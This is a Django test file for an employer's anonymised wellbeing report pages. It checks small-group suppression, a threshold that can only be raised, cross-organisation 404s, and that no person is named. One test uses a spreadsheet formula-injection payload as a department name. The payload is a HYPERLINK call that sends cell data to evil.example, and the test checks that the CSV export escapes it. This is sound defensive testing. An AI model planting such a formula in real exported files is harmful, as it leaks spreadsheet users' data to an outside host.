"""The employer's report pages as the employer gets them: its own organisation only, no number from a small
group on the page, in the CSV or on the printable page, a threshold that only goes up, nothing per person."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.db import connections
from django.test import Client
from django.urls import reverse

from participants.models import Department, Organisation, Participant, StaffUser
from preventicons.crypto import new_pseudonym
from preventicons.roles import Role
from scores import reports
from scores.models import ReportSetting, ReportSettingChange
from tests.conftest import (
    ALL_DATABASES,
    login_verified,
    make_organisation,
    make_staff,
    run_on_embedded_default,
)
from tests.scores.reporting import MONDAY, freeze_week, weeks_from

LEVELS = ("week", "quarter", "year")
# A department of four whose answers would give an average no other group has: 1, 1, 2, 5 is 2.3.
SMALL = [1, 1, 2, 5]


class Rows(HTMLParser):
    """Every table row of a page as its cells' text, the row's header first."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def table_rows(html: str) -> list[list[str]]:
    parser = Rows()
    parser.feed(html)
    return parser.rows


def _employer(organisation: Organisation, name: str = "hr") -> Client:
    return login_verified(Client(), make_staff(name, Role.EMPLOYER, organisation))


def _world(*, weeks: int = 14, finance: list[int] = SMALL) -> tuple[Organisation, dict[str, Department]]:
    organisation = make_organisation("Zorggroep Noord", "zorg")
    departments = {department.name: department for department in organisation.departments.all()}
    for number, week in enumerate(weeks_from(MONDAY, weeks)):
        freeze_week(
            organisation,
            week,
            {
                departments["Finance"]: finance,
                departments["Care"]: [3, 4, 4, 5, 2, 3, 4, 1, 4, 5, 3 + number % 2],
                departments["IT"]: [2, 3, 4, 4, 5, 1, 4],
            },
        )
    return organisation, departments


def _pages(client: Client, organisation: Organisation) -> dict[str, str]:
    pages = {}
    for level in LEVELS:
        kwargs = {"organisation_id": organisation.pk, "level": level}
        pages[f"page {level}"] = client.get(reverse("scores:report", kwargs=kwargs)).content.decode()
        pages[f"print {level}"] = client.get(reverse("scores:report-print", kwargs=kwargs)).content.decode()
        pages[f"csv {level}"] = client.get(reverse("scores:report-csv", kwargs=kwargs)).content.decode()
    return pages


@pytest.mark.django_db
def test_a_department_of_four_never_shows_a_number_on_the_page_in_the_csv_or_on_the_printable_page() -> None:
    organisation, _departments = _world()
    client = _employer(organisation)
    pages = _pages(client, organisation)
    for name, body in pages.items():
        if name.startswith("csv"):
            lines = list(csv.DictReader(io.StringIO(body)))
            finance = [line for line in lines if line["group"] == "Finance"]
            assert finance, name
            for line in finance:
                assert line["answers"] == line["average (1-5)"] == line["hard weeks (1 or 2)"] == "", (
                    name,
                    line,
                )
                assert line["participation"] == ""
            # The whole organisation and a big department are there: the CSV is not simply empty.
            assert any(line["group"] == "Care" and line["average (1-5)"] for line in lines), name
        else:
            finance_rows = [row for row in table_rows(body) if row and row[0] == "Finance"]
            assert finance_rows, name
            for row in finance_rows:
                assert not any(re.search(r"\d", cell) for cell in row[1:]), (name, row)
            assert any(row[0] == "Care" and re.search(r"\d", " ".join(row[1:])) for row in table_rows(body))
        # Finance's own average (2.3) appears nowhere (the chart's coordinates aside).
        text = re.sub(r"<svg.*?</svg>", "", body, flags=re.DOTALL)
        assert not re.search(r"(?<![\d.,])2[.,]3(?!\d)", text), name


@pytest.mark.django_db
def test_the_other_departments_with_only_the_small_department_are_withheld_and_so_is_the_next_smallest() -> (
    None
):
    organisation, _departments = _world(weeks=1)
    report = reports.build_report(organisation, reports.Level.WEEK)
    by_label = {row.label: row.cells[-1] for row in report.rows}
    assert by_label["Other departments"] is not None and by_label["Other departments"].answers is None
    # Whole organisation minus Care would be Finance plus IT: IT (the next-smallest) is withheld as well.
    assert by_label["IT"] is not None and by_label["IT"].answers is None
    assert by_label["Care"] is not None and by_label["Care"].answers == 11
    assert by_label["Whole organisation"] is not None and by_label["Whole organisation"].answers == 22


@pytest.mark.django_db
def test_an_employer_gets_404_for_every_reports_page_of_another_organisation_as_for_none_at_all() -> None:
    organisation, _departments = _world(weeks=2)
    other = make_organisation("Bouwbedrijf Zuid", "bouw")
    client = _employer(other, "hr-zuid")
    bodies = set()
    for organisation_id in (organisation.pk, 999_999):
        for name in ("scores:report", "scores:report-print", "scores:report-csv"):
            response = client.get(reverse(name, kwargs={"organisation_id": organisation_id, "level": "week"}))
            assert response.status_code == 404
            bodies.add(response.content)
        url = reverse("scores:report-settings", kwargs={"organisation_id": organisation_id})
        assert client.get(url).status_code == 404
        assert client.post(url, {"threshold": "9"}).status_code == 404
        bodies.add(client.get(url).content)
    assert len(bodies) == 1
    assert not ReportSettingChange.objects.exists()
    # Its own reports open, and /reports/ leads there.
    assert client.get(reverse("scores:reports"))["Location"] == reverse(
        "scores:report", kwargs={"organisation_id": other.pk, "level": "quarter"}
    )


@pytest.mark.django_db
def test_an_unknown_period_level_answers_404() -> None:
    organisation, _departments = _world(weeks=1)
    client = _employer(organisation)
    for level in ("month", "day", "WEEK", "custom"):
        assert client.get(f"/reports/{organisation.pk}/{level}/").status_code == 404


@pytest.mark.django_db
def test_the_csv_writes_a_department_name_that_starts_like_a_formula_as_text() -> None:
    organisation, departments = _world(weeks=1)
    departments["Care"].name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    departments["Care"].save()
    client = _employer(organisation)
    body = client.get(
        reverse("scores:report-csv", kwargs={"organisation_id": organisation.pk, "level": "week"})
    ).content.decode()
    groups = [line["group"] for line in csv.DictReader(io.StringIO(body))]
    assert "'" + departments["Care"].name in groups
    assert not any(group.startswith(("=", "+", "-", "@")) for group in groups)


@pytest.mark.django_db
def test_a_threshold_that_is_not_higher_changes_nothing_and_says_why() -> None:
    organisation, _departments = _world(weeks=1)
    client = _employer(organisation)
    url = reverse("scores:report-settings", kwargs={"organisation_id": organisation.pk})
    for value in ("4", "5", "0", "-3", "51", "abc", "", "7.5"):
        response = client.post(url, {"threshold": value})
        assert response.status_code == 400, value
        assert "errorlist" in response.content.decode(), value
    assert not ReportSetting.objects.exists()
    assert not ReportSettingChange.objects.exists()
    assert reports.threshold_of(organisation.pk) == 5


@pytest.mark.django_db
def test_raising_the_threshold_is_logged_with_who_and_shown_and_folds_a_department_under_it() -> None:
    organisation, _departments = _world(weeks=1)
    client = _employer(organisation)
    url = reverse("scores:report-settings", kwargs={"organisation_id": organisation.pk})
    before = reports.build_report(organisation, reports.Level.WEEK)
    assert {row.label for row in before.rows if row.cells[-1] and row.cells[-1].answers} >= {"Care"}
    response = client.post(url, {"threshold": "12"})
    assert response.status_code == 302
    change = ReportSettingChange.objects.get()
    assert (change.changed_by_name, change.old_value, change.new_value) == ("hr", "5", "12")
    page = client.get(url).content.decode()
    assert "hr" in page and "12" in page
    after = reports.build_report(organisation, reports.Level.WEEK)
    care = next(row for row in after.rows if row.label == "Care")
    # Care has 11 answers: under 12 it is folded and shows nothing.
    assert care.cells[-1] is not None and care.cells[-1].answers is None
    # Lowering it back is refused, and so is the same value.
    assert client.post(url, {"threshold": "11"}).status_code == 400
    assert ReportSettingChange.objects.count() == 1


@pytest.mark.django_db(transaction=True)
def test_parallel_raises_both_end_up_logged_in_order_and_none_lowers_it() -> None:
    organisation = make_organisation("Zorggroep Noord", "zorg")
    user = make_staff("hr", Role.EMPLOYER, organisation)
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def raise_to(value: int) -> None:
        try:
            barrier.wait()
            reports.raise_threshold(organisation, value, by=StaffUser.objects.get(pk=user.pk))
            outcomes.append(f"raised {value}")
        except ValueError:
            outcomes.append(f"refused {value}")
        finally:
            connections.close_all()

    threads = [threading.Thread(target=raise_to, args=(value,)) for value in (8, 9)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    changes = list(
        ReportSettingChange.objects.order_by("changed_at", "pk").values_list("old_value", "new_value")
    )
    final = reports.threshold_of(organisation.pk)
    assert final == 9
    # Either both went through in order (5 -> 8 -> 9) or 9 came first and 8 was refused.
    assert changes in ([("5", "8"), ("8", "9")], [("5", "9")]), (changes, outcomes)


@pytest.mark.django_db
def test_no_report_response_names_a_person_or_holds_a_pseudonym() -> None:
    from tests.factories import ParticipantFactory

    organisation, departments = _world(weeks=3)
    people = [
        ParticipantFactory.create(
            organisation=organisation, department=departments["Care"], name=name, status="active"
        )
        for name in ("Sanne de Vries", "Daan Jansen", "Lotte Bakker")
    ]
    client = _employer(organisation)
    pages = _pages(client, organisation)
    pages["settings"] = client.get(
        reverse("scores:report-settings", kwargs={"organisation_id": organisation.pk})
    ).content.decode()
    for name, body in pages.items():
        for person in people:
            assert person.name and person.name not in body, name
            assert person.email and person.email not in body, name
            if person.pseudonym:
                assert person.pseudonym not in body, name


@pytest.mark.django_db
def test_a_report_without_a_closed_week_says_so_on_every_level() -> None:
    organisation = make_organisation("Nieuw BV", "zorg")
    client = _employer(organisation)
    for level in LEVELS:
        body = client.get(
            reverse("scores:report", kwargs={"organisation_id": organisation.pk, "level": level})
        ).content.decode()
        assert "No week has been closed yet" in body
        csv_body = client.get(
            reverse("scores:report-csv", kwargs={"organisation_id": organisation.pk, "level": level})
        ).content.decode()
        assert len(csv_body.strip().splitlines()) == 1  # the header only


@pytest.mark.integration
def test_the_report_pages_work_on_the_embedded_default(tmp_path: Path) -> None:
    printed = run_on_embedded_default(str(Path(__file__).with_name("sqlite_reports.py")), var_dir=tmp_path)
    result = json.loads(printed.strip().splitlines()[-1])
    assert set(result["statuses"].values()) == {200}, result["statuses"]
    assert result["small"] == [""] * 6  # three people: never a number
    # Whole organisation minus Care would be Small's three: Ward, the next-smallest, is withheld too.
    assert result["care"] == ["7"] * 6
    assert result["ward"] == [""] * 6
    assert result["organisation"] == ["15"] * 6
    assert result["raised"] == 302 and result["settings"] == 200


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_a_stop_or_an_anonymisation_changes_nothing_in_any_report_of_the_employer() -> None:
    """A stop shreds a row (rows shredded before participants 0025 also lost their department): no report may
    depend on that, or the employer would see someone stop as a change in what its reports withhold."""
    from participants.account import stop_participation
    from participants.retention import anonymise_participants
    from tests.factories import ParticipantFactory

    # Every department over the threshold: no "Other departments" to hide a change in.
    organisation, departments = _world(weeks=14, finance=[2, 3, 3, 4, 5, 4])
    people = [
        ParticipantFactory.create(
            organisation=organisation,
            department=departments["Care"],
            status="active",
            pseudonym=new_pseudonym(),
        )
        for _ in range(3)
    ]
    client = _employer(organisation)
    before = _pages(client, organisation)
    stop_participation(participant=people[0])
    anonymise_participants(participant_ids=[people[1].pk])
    stopped = Participant.objects.filter(organisation=organisation).with_status("stopped")
    assert stopped.count() == 2 and all(person.pseudonym is None for person in stopped)
    after = _pages(client, organisation)
    for name in before:
        assert _without_nonces(after[name]) == _without_nonces(before[name]), name


def _without_nonces(body: str) -> str:
    return re.sub(r'(csrfmiddlewaretoken" value="|nonce=")[^"]+', r"\1", body)
